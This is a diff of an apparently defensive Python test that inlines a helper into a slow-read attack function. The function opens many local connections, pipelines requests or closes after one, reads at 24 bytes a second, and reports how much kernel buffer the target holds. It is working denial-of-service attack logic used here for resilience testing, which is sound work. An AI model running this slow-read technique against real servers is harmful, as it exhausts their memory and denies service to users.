@@ -11,15 +11,11 @@ SECONDS = 22  # a little more than the product's own bound with its rounds
 
 def attack_answers_that_nobody_reads(target: Target) -> AttackResult:
     """Asks for much on each connection and reads 24 bytes a second."""
-    return _starved(target, ASKED + b"\r\n", 50, "50 pipelined requests")
-
-
-def _starved(target: Target, asked: bytes, times: int, what: str) -> AttackResult:
     readers = [target.connect(source="127.0.0.88", keeps=4096) for _ in range(READERS)]
     half = READERS // 2
     for number, reader in enumerate(readers):
         # Half of them have the connection closed behind one answer: the kernel's part of it is nobody's then.
-        reader.sendall(asked * times if number < half else asked[:-2] + b"Connection: close\r\n\r\n")
+        reader.sendall((ASKED + b"\r\n") * 50 if number < half else ASKED + b"Connection: close\r\n\r\n")
         reader.settimeout(0.01)
     most, held = 0, -1
     for _ in range(SECONDS):
@@ -35,5 +31,5 @@ def _starved(target: Target, asked: bytes, times: int, what: str) -> AttackResul
             break
     for reader in readers:
         reader.close()
-    tried = f"{READERS} clients at 24 bytes/s, {what} or one that closes"
+    tried = f"{READERS} clients at 24 bytes/s, 50 pipelined requests or one that closes"
     return AttackResult(tried, f"the kernel held {most // 1024} KiB, {held // 1024} KiB at the end", held > 0)
